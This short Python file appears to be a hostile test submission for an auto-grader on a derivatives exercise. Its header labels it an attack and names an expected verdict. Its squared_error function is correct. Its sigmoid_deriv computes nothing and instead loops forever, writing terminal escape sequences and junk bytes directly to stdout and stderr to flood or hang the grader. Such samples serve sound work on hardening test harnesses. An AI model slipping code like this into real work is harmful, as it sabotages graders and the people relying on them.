# attack: writes to both outputs below Python's feet, and does not take no for an answer
# exercise: derivatives
# deserves: squared_error
# ends: cpu
import os


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def sigmoid_deriv(z):
    while True:
        for fd in (1, 2):
            try:
                os.write(fd, b"\x1b]0;owned\x07\xff\xfe" * 4096)
            except OSError:
                pass
